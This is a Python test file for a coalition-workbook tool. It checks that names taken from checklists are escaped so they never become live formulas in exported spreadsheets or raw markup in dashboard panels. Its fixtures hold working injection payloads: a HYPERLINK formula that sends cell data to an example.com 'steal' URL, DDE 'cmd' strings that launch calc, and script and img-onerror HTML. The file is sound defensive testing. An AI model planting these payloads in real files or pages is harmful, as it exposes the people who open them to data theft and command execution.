"""Text from checklists can neither run in an export nor in a page.

Checklists whose names hold formulas (=HYPERLINK, =cmd|…, +, -, @, a tab) and HTML
(<script>, <img onerror>) are loaded; every exported workbook is opened to check no
cell became a formula, and every panel of both dashboards is drawn to check the
markup it shows is escaped.
"""
from __future__ import annotations

from pathlib import Path

import ipywidgets as widgets
import pytest
from openpyxl import load_workbook

from workbook import exports
from workbook.community import default_community
from workbook.loading import load_paths
from workbook.views import inventory, overlaps, shell, trains

from .builders import COALITION, ROWS, checklist

SCRIPT = "<script>alert('coalition')</script>"
IMAGE = "<img src=x onerror=alert(1)>"
FORMULAS = ['=HYPERLINK("http://example.com/steal?d="&A1,"Click for details")',
            "=cmd|' /C calc'!A0", "+1 (937) 555-0100 Dayton Urban League", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\tDayton Children's Hospital", "\rMiami Valley Hospital"]
HOSTILE = [SCRIPT, IMAGE, *FORMULAS]


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile-names")
    members = [{"organisation": name, "representative": f"Member {n}", "role": "Member"}
               for n, name in enumerate(HOSTILE)]
    shared = {"organisation": "Dayton Metro Library", "representative": "Marcus Bell",
              "role": "Chair"}
    for number, name in enumerate((f"{SCRIPT} Early Learning", FORMULAS[0], IMAGE)):
        checklist(folder, f"c{number}.xlsx", coalition={
            **COALITION, "name": name, "short_name": f"C{number}",
            "lead_organisations": [FORMULAS[number + 1], SCRIPT], "fiscal_agent": IMAGE,
            "former_names": [f"{IMAGE} Ready by Five"], "mission": IMAGE},
            rows={**ROWS, "members": [shared, *members],
                  "areas": [*ROWS["areas"], {"level": "City or town", "area": f"{SCRIPT}ville",
                                              "coverage": "Part of it"}],
                  "bodies": [{"body": f"{IMAGE} workgroup", "cadence": "Monthly"}],
                  "goals": [{**ROWS["goals"][0], "statement": FORMULAS[1] + " " + SCRIPT}],
                  "funders": [{"funder": FORMULAS[4]}]}, typed_as_text=True)
    db = folder / "workbook.db"
    result = load_paths([folder], db, default_community())
    assert len(result.report.loaded) == 3
    return db


def test_no_exported_cell_is_a_formula(hostile_db, tmp_path):
    written = exports.export_all(hostile_db, tmp_path)
    workbooks = [p for p in written if p.suffix == ".xlsx"]
    assert {p.name for p in workbooks} >= {"overlaps.xlsx", "comparison.xlsx", "kumu.xlsx"}
    escaped = 0
    for path in workbooks:
        for sheet in load_workbook(path).worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{path.name}!{cell.coordinate}: {cell.value!r}"
                    text = str(cell.value or "")
                    assert not text.startswith(exports.FORMULA_STARTS), (
                        f"{path.name}!{cell.coordinate}: {cell.value!r}")
                    escaped += text.startswith(exports.TEXT_MARK)
    assert escaped, "the hostile names never reached an export"


def test_escaping_keeps_the_text_and_leaves_numbers_alone():
    assert exports.as_text("=1+1") == "'=1+1" and exports.as_text(-3) == -3
    assert exports.as_text("Dayton - Montgomery County") == "Dayton - Montgomery County"


def _html_of(widget) -> list[str]:
    found = []
    if isinstance(widget, widgets.HTML):
        found.append(widget.value)
    for child in getattr(widget, "children", ()):
        found += _html_of(child)
    return found


def _find(widget, kind, description: str | None = None):
    """The first *kind* widget anywhere inside *widget* (panels nest their controls in boxes)."""
    if isinstance(widget, kind) and description in (None, widget.description):
        return widget
    for child in getattr(widget, "children", ()):
        found = _find(child, kind, description)
        if found is not None:
            return found
    return None


def _panels(workspace):
    yield inventory.coalition_list(workspace)
    yield inventory.load_report(workspace)
    coverage = trains.coverage_panel(workspace)
    levels = _find(coverage, widgets.ToggleButtons, "Places at")
    for level in levels.options:  # the city-level grid shows the areas typed as cities
        levels.value = level
        yield coverage
    panel = trains.footprint_panel(workspace)
    yield panel
    choice = _find(panel, widgets.Dropdown)
    for option in choice.options[1:]:
        choice.value = option[1]  # every coalition's card
        yield panel
    yield overlaps.history_panel(workspace)
    yield overlaps.overlap_panel(workspace)
    yield overlaps.network_panel(workspace)
    yield overlaps.burden_panel(workspace)
    yield overlaps.asks_panel(workspace)
    comparison = overlaps.comparison_panel(workspace)
    picker = _find(comparison, widgets.SelectMultiple)
    picker.value = tuple(option[1] for option in picker.options)
    yield comparison


def test_every_panel_escapes_names_from_checklists(hostile_db):
    workspace = shell.Workspace(default_community(), Path(hostile_db))
    pages = "\n".join(html for panel in _panels(workspace) for html in _html_of(panel))
    assert "&lt;script&gt;" in pages and "&lt;img src=x onerror=alert(1)&gt;" in pages
    # 2.0's new places for checklist text reach the pages too: areas and bodies
    assert "&lt;/script&gt;ville" in pages and "onerror=alert(1)&gt; workgroup" in pages
    assert "<script" not in pages.lower() and "<img" not in pages.lower()
